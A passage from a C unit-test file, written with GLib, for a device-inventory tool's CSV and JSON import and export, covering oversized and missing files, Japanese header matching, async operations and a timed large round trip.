  g_autofree char *big_path = g_build_filename (dir, "big.csv", NULL);
  g_autofree char *good_path = g_build_filename (dir, "staff list.csv", NULL);
  g_autoptr(GFile) big = g_file_new_for_path (big_path);
  g_autoptr(GFile) good = g_file_new_for_path (good_path);
  g_autoptr(GFile) folder = g_file_new_for_path (dir);
  g_autoptr(GFile) missing = g_file_new_for_path ("/nonexistent/omamori.csv");
  g_autoptr(GFileOutputStream) out = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(OmImportPlan) plan = NULL;
  g_autofree char *before = export_text (inventory, OM_EXPORT_FORMAT_CSV);
  g_autofree char *after = NULL;

  /* 100 MB (sparse): refused before it is read. */
  out = g_file_replace (big, NULL, FALSE, G_FILE_CREATE_NONE, NULL, &error);
  g_assert_no_error (error);
  g_output_stream_write_all (G_OUTPUT_STREAM (out), "name\r\n", 6, NULL, NULL, &error);
  g_assert_no_error (error);
  g_seekable_truncate (G_SEEKABLE (out), 100 * 1024 * 1024, NULL, &error);
  g_assert_no_error (error);
  g_output_stream_close (G_OUTPUT_STREAM (out), NULL, &error);
  g_assert_no_error (error);

  plan = om_import_plan_new_for_file (inventory, big, NULL, &error);
  g_assert_null (plan);
  g_assert_error (error, OM_IMPORT_ERROR, OM_IMPORT_ERROR_TOO_LARGE);
  g_assert_nonnull (strstr (error->message, "big.csv"));
  g_clear_error (&error);

  plan = om_import_plan_new_for_file (inventory, folder, NULL, &error);
  g_assert_null (plan);
  g_assert_error (error, OM_IMPORT_ERROR, OM_IMPORT_ERROR_NOT_A_FILE);
  g_clear_error (&error);

  plan = om_import_plan_new_for_file (inventory, missing, NULL, &error);
  g_assert_null (plan);
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NOT_FOUND);
  g_clear_error (&error);

  after = export_text (inventory, OM_EXPORT_FORMAT_CSV);
  g_assert_cmpstr (before, ==, after);

  /* A good file: the source names the file. */
  g_assert_true (g_file_set_contents (good_path, "name\r\n新しいPC\r\n", -1, NULL));
  plan = om_import_plan_new_for_file (inventory, good, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (om_import_plan_get_source (plan), ==, "import:staff list.csv");
  g_assert_cmpuint (om_import_plan_get_n_additions (plan), ==, 1);

  g_unlink (big_path);
  g_unlink (good_path);
  g_rmdir (dir);
}

static void
test_export_to_file (void)
{
  g_autoptr(OmInventory) inventory = make_inventory ();
  g_autofree char *dir = g_dir_make_tmp ("om-export-XXXXXX", NULL);
  g_autofree char *path = g_build_filename (dir, "inventory.csv", NULL);
  g_autoptr(GFile) file = g_file_new_for_path (path);
  g_autoptr(GFile) bad = g_file_new_for_path ("/nonexistent/dir/inventory.csv");
  g_autoptr(GError) error = NULL;
  g_autofree char *contents = NULL;
  g_autofree char *expected = export_text (inventory, OM_EXPORT_FORMAT_CSV);

  g_assert_true (om_inventory_export_to_file (inventory, OM_EXPORT_FORMAT_CSV, file, NULL, &error));
  g_assert_no_error (error);
  g_assert_true (g_file_get_contents (path, &contents, NULL, NULL));
  g_assert_cmpstr (contents, ==, expected);

  g_assert_false (om_inventory_export_to_file (inventory, OM_EXPORT_FORMAT_CSV, bad, NULL, &error));
  g_assert_nonnull (error);
  g_assert_nonnull (strstr (error->message, "/nonexistent/dir/inventory.csv"));

  g_unlink (path);
  g_rmdir (dir);
}

static void
on_async_done_cb (GObject      *source_object,
                  GAsyncResult *result,
                  gpointer      user_data)
{
  GAsyncResult **out = user_data;

  *out = g_object_ref (result);
}

static GAsyncResult *
wait_for_result (GAsyncResult **slot)
{
  gint64 deadline = g_get_monotonic_time () + 10 * G_USEC_PER_SEC;

  while (*slot == NULL && g_get_monotonic_time () < deadline)
    g_main_context_iteration (NULL, TRUE);
  g_assert_nonnull (*slot);
  return *slot;
}

static void
test_async (void)
{
  g_autoptr(OmInventory) inventory = make_inventory ();
  g_autoptr(OmInventory) empty = om_inventory_new ();
  g_autofree char *dir = g_dir_make_tmp ("om-async-XXXXXX", NULL);
  g_autofree char *path = g_build_filename (dir, "inventory.csv", NULL);
  g_autoptr(GFile) file = g_file_new_for_path (path);
  g_autoptr(GFile) missing = g_file_new_for_path ("/nonexistent/inventory.csv");
  g_autoptr(GAsyncResult) written = NULL;
  g_autoptr(GAsyncResult) planned = NULL;
  g_autoptr(GAsyncResult) failed = NULL;
  g_autoptr(OmImportPlan) plan = NULL;
  g_autoptr(GError) error = NULL;

  om_inventory_export_to_file_async (inventory, OM_EXPORT_FORMAT_CSV, file, NULL,
                                     on_async_done_cb, &written);
  g_assert_true (om_inventory_export_to_file_finish (inventory, wait_for_result (&written),
                                                     &error));
  g_assert_no_error (error);

  om_import_plan_new_for_file_async (empty, file, NULL, on_async_done_cb, &planned);
  plan = om_import_plan_new_for_file_finish (wait_for_result (&planned), &error);
  g_assert_no_error (error);
  g_assert_cmpuint (om_import_plan_get_n_additions (plan), ==, 4);
  g_assert_cmpstr (om_import_plan_get_source (plan), ==, "import:inventory.csv");
  g_assert_cmpuint (om_inventory_get_n_devices (empty), ==, 0);

  om_import_plan_new_for_file_async (empty, missing, NULL, on_async_done_cb, &failed);
  g_assert_null (om_import_plan_new_for_file_finish (wait_for_result (&failed), &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NOT_FOUND);

  g_unlink (path);
  g_rmdir (dir);
}

static void
test_header_matching (void)
{
  static const struct {
    const char *header;
    guint       column;
  } cases[] = {
    { "name", OM_DEVICE_FIELD_NAME },
    { " Name ", OM_DEVICE_FIELD_NAME },
    { "名前", OM_DEVICE_FIELD_NAME },
    { "os_name", OM_DEVICE_FIELD_OS_NAME },
    { "os-name", OM_DEVICE_FIELD_OS_NAME },
    { "OS Name", OM_DEVICE_FIELD_OS_NAME },
    { "ＯＳ名", OM_DEVICE_FIELD_OS_NAME },
    { "MAC addresses", OM_DEVICE_FIELD_MACS },
    { "MACアドレス", OM_DEVICE_FIELD_MACS },
    { "IPv6 addresses", OM_DEVICE_FIELD_IPV6 },
    { "Operating system", OM_DEVICE_FIELD_OS_NAME },
    { "Identifiers", OM_DEVICE_FIELD_IDENTIFIERS },
    { "ID", OM_CSV_COLUMN_ID },
    { OM_CSV_BOM "id", OM_CSV_COLUMN_ID },
    { "last_seen", OM_CSV_COLUMN_LAST_SEEN },
    { "最終検出", OM_CSV_COLUMN_LAST_SEEN },
    { "備考", OM_DEVICE_FIELD_NOTES },
  };
  guint column;

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      if (!om_inventory_csv_column_from_header (cases[i].header, &column))
        g_error ("“%s” not recognised", cases[i].header);
      g_assert_cmpuint (column, ==, cases[i].column);
    }
  g_assert_false (om_inventory_csv_column_from_header ("colour", &column));
  g_assert_false (om_inventory_csv_column_from_header ("", &column));

  /* Every exported key maps back to its own column. */
  for (guint c = 0; c < OM_CSV_N_COLUMNS; c++)
    {
      g_assert_true (om_inventory_csv_column_from_header (om_inventory_csv_column_get_key (c),
                                                          &column));
      g_assert_cmpuint (column, ==, c);
    }
}

/* 10 000 devices: how long export, plan and apply take (printed, not asserted). */
static void
test_large_round_trip (void)
{
  g_autoptr(OmInventory) inventory = om_inventory_new ();
  g_autoptr(OmInventory) copy = om_inventory_new ();
  g_autoptr(GPtrArray) devices = g_ptr_array_new_with_free_func (g_object_unref);
  g_autoptr(OmImportPlan) plan = NULL;
  g_autofree char *csv = NULL;
  gint64 t0, t1, t2, t3;
  guint n = g_test_slow () ? 10000 : 2000;

  for (guint i = 0; i < n; i++)
    {
      OmDevice *d = om_device_new ();
      g_autofree char *name = g_strdup_printf ("PC-%05u 経理", i);
      g_autofree char *mac = g_strdup_printf ("00:16:3e:%02x:%02x:%02x", (i >> 16) & 0xff,
                                              (i >> 8) & 0xff, i & 0xff);
      g_autofree char *ip = g_strdup_printf ("10.%u.%u.%u", (i >> 16) & 0xff, (i >> 8) & 0xff,
                                             i & 0xff);

      om_device_set_name (d, name);
      om_device_set_kind (d, i % 2 ? OM_DEVICE_KIND_PC : OM_DEVICE_KIND_LAPTOP);
      offer_list (d, OM_DEVICE_FIELD_MACS, mac, NULL);
      offer_list (d, OM_DEVICE_FIELD_IPV4, ip, NULL);
      om_device_set_os_name (d, "Windows 10 Pro 22H2");
      om_device_set_notes (d, "メモ\n二行目");
      g_ptr_array_add (devices, d);
    }
  om_inventory_add_many (inventory, (OmDevice **) devices->pdata, devices->len);

  t0 = g_get_monotonic_time ();
  csv = export_text (inventory, OM_EXPORT_FORMAT_CSV);
  t1 = g_get_monotonic_time ();
  plan = plan_ok (copy, csv);
  t2 = g_get_monotonic_time ();
  g_assert_true (om_import_plan_apply (plan, copy, NULL, NULL));
  t3 = g_get_monotonic_time ();

  g_assert_cmpuint (om_inventory_get_n_devices (copy), ==, n);
  assert_same_device (om_inventory_get_device (inventory, n - 1),
                      om_inventory_get_device (copy, n - 1));
  g_test_message ("%u devices, %zu bytes: export %.1f ms, plan %.1f ms, apply %.1f ms", n,
                  strlen (csv), (t1 - t0) / 1000.0, (t2 - t1) / 1000.0, (t3 - t2) / 1000.0);
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);

  g_test_add_func ("/inventory-io/export/csv", test_export_csv);
  g_test_add_func ("/inventory-io/export/json", test_export_json);
  g_test_add_func ("/inventory-io/export/to-file", test_export_to_file);
  g_test_add_func ("/inventory-io/headers", test_header_matching);
  g_test_add_func ("/import/round-trip/empty-inventory", test_round_trip_empty);
  g_test_add_func ("/import/round-trip/large", test_large_round_trip);
  g_test_add_func ("/import/plan-then-apply", test_plan_then_apply);
  g_test_add_func ("/import/match/by-mac", test_match_by_mac);
  g_test_add_func ("/import/match/by-id-then-ip", test_match_by_id_then_ip);
  g_test_add_func ("/import/rejections", test_rejections);
  g_test_add_func ("/import/japanese", test_headers_and_values_japanese);
  g_test_add_func ("/import/hostile-cells", test_hostile_cells);
  g_test_add_func ("/import/empty-cell-keeps-value", test_empty_cell_keeps_value);
  g_test_add_func ("/import/apply-skips-deleted", test_apply_skips_deleted);
  g_test_add_func ("/import/bad-data", test_bad_data);
  g_test_add_func ("/import/bad-files", test_bad_files);
  g_test_add_func ("/import/async", test_async);

  return g_test_run ();
}
